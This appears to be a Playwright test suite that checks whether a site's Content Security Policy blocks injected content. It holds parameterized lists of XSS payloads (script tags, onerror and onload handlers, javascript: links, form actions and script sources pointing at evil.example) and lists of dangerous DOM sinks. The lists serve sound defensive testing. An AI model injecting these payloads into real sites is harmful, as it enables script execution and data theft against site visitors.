"""The policy in every page's head blocks what got into a page, and nothing of the site."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser.kinds import KINDS, LOST, SEED
from tests.browser.waiting import wait_until
from tests.server import SiteServer

# With a table and code on written pages, a chart, and the page for lost addresses.
VISITED = [*KINDS, "search/", "records/", "performance/", "years/2025/", LOST]
REPORT = """
window.violations = [];
document.addEventListener("securitypolicyviolation",
  ({effectiveDirective, blockedURI, sourceFile}) =>
    violations.push({effectiveDirective, blockedURI, sourceFile}));
"""


@pytest.fixture
def opened(browser: Browser) -> Any:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(REPORT)
    yield context.new_page()
    context.close()


def violations(page: Page) -> list[dict[str, str]]:
    found: list[dict[str, str]] = page.evaluate("window.violations")
    return found


def changed(page: Page, change: Callable[[str], str], **headers: str) -> None:
    """Serve every page of the site in another state."""

    def answer(route: Route) -> None:
        if route.request.resource_type != "document":
            route.continue_()
            return
        response = route.fetch()
        sent = {**response.headers, **{name.replace("_", "-"): headers[name] for name in headers}}
        sent.pop("content-encoding", None)
        route.fulfill(response=response, body=change(response.text()), headers=sent)

    page.route("**/*", answer)


def use(page: Page, site: SiteServer) -> None:
    """Do what starts each script: search in both boxes, filter, cite, save, change colours."""
    page.goto(f"{site.url}papers/{SEED}/")
    page.locator(".md-search__input").click()
    page.keyboard.type("sleep", delay=20)
    expect(page.locator(".md-search-result__item").first).to_be_visible(timeout=15_000)
    page.keyboard.press("Escape")
    page.locator("ps-palette form label:not([hidden])").click()
    page.locator("[data-cite]").first.click()
    expect(page.locator("dialog")).to_be_visible()
    expect(page.locator("dialog")).to_contain_text("Psychiatry")
    page.keyboard.press("Escape")
    page.goto(f"{site.url}search/")
    expect(page.locator("#papershelf-search [data-paper]").first).to_be_visible()
    page.locator("#ps-q").fill("slep")
    expect(page.locator("#papershelf-search [role=status]")).not_to_be_empty()
    page.wait_for_load_state("networkidle")


@pytest.mark.parametrize("path", VISITED)
def test_nothing_of_the_site_is_blocked(opened: Page, shelf: SiteServer, path: str) -> None:
    opened.goto(shelf.url + path, wait_until="networkidle")
    assert opened.locator("meta[http-equiv=Content-Security-Policy]").count() == 1
    assert violations(opened) == []
    # The last one is left: its removal would give all elements their style anew.
    assert opened.locator("ps-add:not([parts~=config])").count() == 0
    assert opened.locator(".md-skip, .md-option, .ps-menu").count() > 2


def test_nothing_of_the_site_is_blocked_while_it_is_used(opened: Page, shelf: SiteServer) -> None:
    blocked: list[str] = []
    opened.on("console", lambda message: blocked.append(message.text))
    use(opened, shelf)
    assert [text for text in blocked if "Security Policy" in text] == []
    assert violations(opened) == []


@pytest.mark.parametrize(
    ("payload", "directive"),
    [
        ("<script>window.pwned=1</script>", "script-src-elem"),
        ("<script src=https://evil.example/x.js></script>", "script-src-elem"),
        ("<script src=data:text/javascript,window.pwned=1></script>", "script-src-elem"),
        ("<img src=x onerror=window.pwned=1>", "script-src-attr"),
        ("<svg onload=window.pwned=1>", "script-src-attr"),
        ("<a id=me href=javascript:window.pwned=1>x</a>", "script-src-elem"),
        ("<img src=https://evil.example/x.png>", "img-src"),
        ("<base href=https://evil.example/>", "base-uri"),
        ("<style>body{display:none}</style>", "style-src-elem"),
        ("<link rel=stylesheet href=https://evil.example/x.css>", "style-src-elem"),
        ("<iframe src=https://evil.example/></iframe>", "frame-src"),
        ("<object data=https://evil.example/></object>", "object-src"),
        ("<form action=https://evil.example/><button id=me>x</button></form>", "form-action"),
    ],
)
@pytest.mark.parametrize("path", ["", f"papers/{SEED}/"])
def test_what_got_into_a_page_is_blocked(
    opened: Page, shelf: SiteServer, path: str, payload: str, directive: str
) -> None:
    sent: list[str] = []
    opened.on("response", lambda response: sent.append(response.url))
    failures: list[str | None] = []
    opened.on("requestfailed", lambda request: failures.append(request.failure))
    changed(opened, lambda html: re.sub("<article[^>]*>", lambda tag: tag[0] + payload, html))
    opened.goto(shelf.url + path)
    if "id=me" in payload:
        opened.locator("#me").dispatch_event("click")
    wait_until(opened, "window.violations.length > 0")
    assert {one["effectiveDirective"] for one in violations(opened)} == {directive}
    assert opened.evaluate("window.pwned") is None
    assert [url for url in sent if "evil.example" in url] == []
    assert set(failures) <= {"csp"}


def test_text_is_not_evaluated(opened: Page, shelf: SiteServer) -> None:
    changed(opened, lambda html: html.replace("</body>", "<script src=../x.js></script></body>"))
    opened.route(
        "**/x.js",
        lambda route: route.fulfill(
            content_type="text/javascript",
            body="try { eval('window.pwned=1') } catch { window.refused = 1 }",
        ),
    )
    opened.goto(f"{shelf.url}papers/")
    wait_until(opened, "window.refused === 1")
    assert opened.evaluate("window.pwned") is None


@pytest.mark.parametrize(
    "sink",
    [
        "document.createElement('script').src = 'https://evil.example/x.js'",
        "document.createElement('script').src = '//evil.example/x.js'",
        "document.createElement('script').src = 'data:text/javascript,window.pwned=1'",
        "document.createElement('script').textContent = 'window.pwned=1'",
        "new Worker('https://evil.example/x.js')",
        "new Worker('blob:https://evil.example/x')",
        "setTimeout('window.pwned=1')",
        "eval('window.pwned=1')",
        "trustedTypes.createPolicy('another', {createHTML: String})",
        "trustedTypes.createPolicy('default', {createHTML: String})",
        "pieces('<img src=x onerror=window.pwned=1>')",
        "policy.createHTML('<img src=x onerror=window.pwned=1>')",
    ],
)
@pytest.mark.parametrize("path", ["", "search/?q=autism"])
def test_no_script_makes_scripts_of_a_text(
    opened: Page, shelf: SiteServer, path: str, sink: str
) -> None:
    """Not even a script of the site that has a fault."""
    opened.goto(shelf.url + path)
    # In a task of its own: a browser lets what a debugger evaluates do more.
    refused = opened.evaluate(
        f"""() => new Promise((resolve) => setTimeout(async () => {{
            try {{
                await (() => {{ return {sink}; }})();
                resolve(null);
            }} catch (error) {{
                resolve(error.name);
            }}
        }}))"""
    )
    assert refused in ("TypeError", "EvalError", "ReferenceError"), sink
    assert opened.evaluate("window.pwned") is None


MARKUP = [
    "<img src=x onerror=window.pwned=1>",
    "<script>window.pwned=1</script>",
    "<svg onload=window.pwned=1></svg>",
    "<b>bold</b>",
    "<p id=x>text</p>",
    """<p class="x" onclick="window.pwned=1">text</p>""",
    "p &lt; 0.05 and <0.01",
]


@pytest.mark.parametrize(
    "sink",
    [
        "place.innerHTML = text",
        "place.innerHTML += text",
        "place.insertAdjacentHTML('beforeend', text)",
        "place.setHTMLUnsafe(text)",
        "place.append(document.createRange().createContextualFragment(text))",
        "place.append(Object.assign(document.createElement('script'), {innerHTML: text}))",
        "place.append(Object.assign(document.createElement('iframe'), {srcdoc: text}))",
        "document.write(text)",
    ],
)
def test_no_script_makes_html_of_a_text(opened: Page, shelf: SiteServer, sink: str) -> None:
    """A tag becomes text, but those of the list of Material's search box."""
    opened.goto(shelf.url)
    made = opened.evaluate(
        f"""(texts) => new Promise((resolve) => setTimeout(() => {{
            const place = document.createElement("div");
            document.body.append(place);
            for (const text of texts) {{
                try {{ {sink}; }} catch {{ }}
            }}
            const harmless = (one) => one.matches("iframe[srcdoc*='&lt;'], script, p")
                && (one.localName === "iframe" || !one.attributes.length);
            const made = [...place.querySelectorAll("*")].filter((one) => !harmless(one));
            resolve(made.map((one) => one.outerHTML));
        }}))""",
        MARKUP,
    )
    assert made == []
    assert opened.locator("img[src=x], svg[onload], p#x, p[onclick]").count() == 0
    assert opened.evaluate("window.pwned") is None


def test_marked_text_of_a_list_of_results_is_let_through(opened: Page, shelf: SiteServer) -> None:
    """Material's script makes the list of its search box of HTML."""
    opened.goto(shelf.url)
    opened.evaluate("document.querySelector('main').innerHTML = '<p>R&D, a > <mark>b</mark></p>'")
    expect(opened.locator("main > p")).to_have_text("R&D, a > b")


def test_what_is_parsed_to_be_read_runs_nothing(opened: Page, shelf: SiteServer) -> None:
    opened.goto(shelf.url)
    opened.evaluate(
        """() => {
            const text = "<img src=x onerror=window.pwned=1><script>window.pwned=1</script>";
            const read = new DOMParser().parseFromString(text, "text/html");
            document.body.append(...document.adoptNode(read.body).childNodes);
        }"""
    )
    wait_until(opened, "window.violations.length > 0")
    assert opened.evaluate("window.pwned") is None
